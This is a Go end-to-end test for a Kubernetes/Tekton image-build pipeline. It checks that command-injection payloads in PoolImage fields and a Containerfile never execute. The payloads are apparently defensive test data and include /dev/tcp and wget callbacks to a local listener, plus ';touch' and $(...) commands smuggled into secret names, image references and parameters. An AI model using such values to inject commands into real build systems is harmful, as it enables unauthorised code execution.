//go:build e2e

package e2e

import (
	"bufio"
	"context"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/ocl-pipelines/ocl-pipelines/internal/builders"
	"github.com/ocl-pipelines/ocl-pipelines/pkg/apis/layering/v1alpha1"
)

// markerPrefix names every file an executed payload would create.
const markerPrefix = "ocl-marker-"

// payloadFor returns shell and Tekton-variable payloads that, if any shell ever executed them,
// would report to the listener at addr (bash's /dev/tcp needs no tool in the step image;
// busybox wget is in the stand-in base) or create a marker file in the container's /tmp.
func payloadFor(addr string) string {
	host, port, _ := net.SplitHostPort(addr)
	tcp := "/dev/tcp/" + host + "/" + port
	return `$(echo m1 >` + tcp + `) ; echo m2 >` + tcp + ` | wget -q http://` + addr + `/m3 && ` +
		"`echo m4 >" + tcp + "`" + ` || $(params.IMAGE) $(context.taskRun.name) $(workspaces.push-secret.path) $(touch /tmp/ocl-marker-5)`
}

// listener records the first line of every connection to it.
type listener struct {
	net.Listener
	mu    sync.Mutex
	lines []string
}

func listen(t *testing.T, host string) *listener {
	t.Helper()
	l, err := net.Listen("tcp", net.JoinHostPort(host, "0"))
	if err != nil {
		t.Fatal(err)
	}
	rec := &listener{Listener: l}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer func() { _ = c.Close() }()
				_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
				line, _ := bufio.NewReader(c).ReadString('\n')
				rec.mu.Lock()
				rec.lines = append(rec.lines, strings.TrimSpace(line))
				rec.mu.Unlock()
				_, _ = c.Write([]byte("HTTP/1.0 204 No Content\r\n\r\n"))
			}()
		}
	}()
	t.Cleanup(func() { _ = l.Close() })
	return rec
}

func (l *listener) seen() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.lines...)
}

// TestInjectionRunsNothing: shell and Tekton-variable payloads in a PoolImage execute nowhere.
// Every string field but the Containerfile is refused before any run exists. The Containerfile
// carries the payloads in every position that is not a RUN instruction (a comment, a label, an
// environment variable, a build argument) and as the literal text a RUN writes to a file. The
// build runs for real on the stack and the text reaches the image byte for byte. No payload ever
// called the test's listener: only the Containerfile's own RUN did, which shows the listener is
// reachable from the build. And no marker file is in any container filesystem of the node.
func TestInjectionRunsNothing(t *testing.T) {
	ctx := context.Background()
	ns := "e2e-injection"
	noQuietPeriod(t)
	newNamespace(t, ns)
	createPushSecret(t, ns, pushAuth())
	host, _, err := net.SplitHostPort(os.Getenv("OCL_E2E_REGISTRY"))
	if err != nil {
		t.Fatalf("OCL_E2E_REGISTRY: %v", err)
	}
	calls := listen(t, host)
	payload := payloadFor(calls.Addr().String())

	// Every other string field: refused, no run.
	bad := &v1alpha1.PoolImage{ObjectMeta: metav1.ObjectMeta{Name: "fields", Namespace: ns}, Spec: v1alpha1.PoolImageSpec{
		MachineConfigPool:   v1alpha1.MachineConfigPoolReference{Name: "worker"},
		Containerfile:       []v1alpha1.Containerfile{{Content: "FROM configs AS final\n"}},
		ImagePushSpec:       "registry.example.com/os/x:" + payload,
		BaseImage:           "registry.example.com/base@" + payload,
		ExtensionsImage:     "registry.example.com/ext:$(touch /tmp/ocl-marker-6)",
		PushSecret:          &v1alpha1.SecretReference{Name: "push;touch /tmp/ocl-marker-7"},
		BaseImagePullSecret: &v1alpha1.SecretReference{Name: "$(touch /tmp/ocl-marker-8)"},
		Entitlements: &v1alpha1.Entitlements{Secret: &v1alpha1.SecretReference{Name: "`touch /tmp/ocl-marker-9`"},
			YumRepos: &v1alpha1.ConfigMapReference{Name: "$(params.IMAGE)"}},
		Pipeline: &v1alpha1.PipelineOptions{ServiceAccountName: "sa;touch /tmp/ocl-marker-10",
			Params: []v1alpha1.Param{{Name: "BUILDAH_IMAGE", Value: "quay.io/buildah:$(touch /tmp/ocl-marker-11)"},
				{Name: "STORAGE_DRIVER", Value: "vfs; touch /tmp/ocl-marker-12"}}},
	}}
	_, err = clients.layering.LayeringV1alpha1().PoolImages(ns).Create(ctx, bad, metav1.CreateOptions{})
	switch {
	case apierrors.IsInvalid(err):
		t.Logf("the API server refused the payloads: %v", err)
	case err != nil:
		t.Fatal(err)
	default:
		var msg string
		eventually(t, ns, "Ready=False for the payload fields", time.Minute, func(ctx context.Context) (bool, error) {
			got, err := clients.layering.LayeringV1alpha1().PoolImages(ns).Get(ctx, bad.Name, metav1.GetOptions{})
			if err != nil {
				return false, err
			}
			c := got.Status.GetCondition(v1alpha1.ConditionReady)
			if c == nil || !c.IsFalse() {
				return false, nil
			}
			msg = c.Message
			return c.Reason == v1alpha1.ReasonInvalidSpec, nil
		})
		for _, f := range []string{"spec.imagePushSpec", "spec.baseImage", "spec.extensionsImage", "spec.pushSecret.name",
			"spec.baseImagePullSecret.name", "spec.entitlements.secret.name", "spec.entitlements.yumRepos.name",
			"spec.pipeline.serviceAccountName", "spec.pipeline.params[0].value", "spec.pipeline.params[1].value"} {
			if !strings.Contains(msg, f) {
				t.Errorf("the refusal does not name %s:\n%s", f, msg)
			}
		}
		if err := clients.layering.LayeringV1alpha1().PoolImages(ns).Delete(ctx, bad.Name, metav1.DeleteOptions{}); err != nil {
			t.Fatal(err)
		}
	}
	if runs, err := clients.tekton.TektonV1().PipelineRuns(ns).List(ctx, metav1.ListOptions{}); err != nil || len(runs.Items) != 0 {
		t.Fatalf("runs for the refused PoolImage (%v): %d", err, len(runs.Items))
	}

	// The Containerfile: built for real.
	pi := builders.PoolImage(ns, "worker", builders.WithContainerfile("FROM configs AS final\n"+
		"# "+payload+"\n"+
		"LABEL ocl.e2e.payload=\""+payload+"\"\n"+
		"ENV OCL_E2E_PAYLOAD=\""+payload+"\"\n"+
		"ARG OCL_E2E_ARG=\""+payload+"\"\n"+
		"RUN printf '%s' '"+payload+"' > /etc/ocl-payload && ostree container commit\n"+
		"RUN /bin/busybox wget -q -O /dev/null http://"+calls.Addr().String()+"/control\n"),
		builders.WithPushSpec(os.Getenv("OCL_E2E_REGISTRY")+"/os/injection:latest"), builders.WithPushSecret("push"))
	if _, err := clients.layering.LayeringV1alpha1().PoolImages(ns).Create(ctx, pi, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { deletePoolImage(t, ns) })
	image := promotedImage(t, ns, "the payload Containerfile built, verified and promoted")

	// The text reached the image byte for byte.
	checkImage(t, image, poolImage(t, ns).Status.LatestBuild.Inputs.BaseImage, map[string]string{"etc/ocl-payload": payload})
	ref, err := name.NewDigest(image, name.Insecure)
	if err != nil {
		t.Fatal(err)
	}
	img, err := remote.Image(ref)
	if err != nil {
		t.Fatal(err)
	}
	cfg, err := img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	if got := cfg.Config.Labels["ocl.e2e.payload"]; got != payload {
		t.Errorf("label ocl.e2e.payload = %q, want the payload unchanged: %q", got, payload)
	}

	// The run has finished (the report task runs after promotion): no payload ran anywhere.
	eventually(t, ns, "the run finished", 2*time.Minute, func(ctx context.Context) (bool, error) {
		pr, err := clients.tekton.TektonV1().PipelineRuns(ns).Get(ctx, poolImage(t, ns).Status.LatestBuild.PipelineRun, metav1.GetOptions{})
		return err == nil && pr.IsDone(), err
	})
	got := calls.seen()
	if len(got) == 0 {
		t.Fatalf("the listener saw nothing, not even the Containerfile's own RUN: it does not prove anything")
	}
	for _, line := range got {
		if !strings.HasPrefix(line, "GET /control ") {
			t.Errorf("a payload ran: the listener got %q", line)
		}
	}
	t.Logf("listener calls: %q", got)

	// Marker files: every container filesystem on the node (containerd's snapshots; the pods'
	// volumes are gone once a pod ends).
	err = filepath.WalkDir(localState(t, "node/containerd/root"), func(path string, d fs.DirEntry, err error) error {
		if err == nil && strings.HasPrefix(d.Name(), markerPrefix) {
			t.Errorf("an executed payload created %s", path)
		}
		return nil // a snapshot removed while we walk
	})
	if err != nil {
		t.Error(err)
	}
}
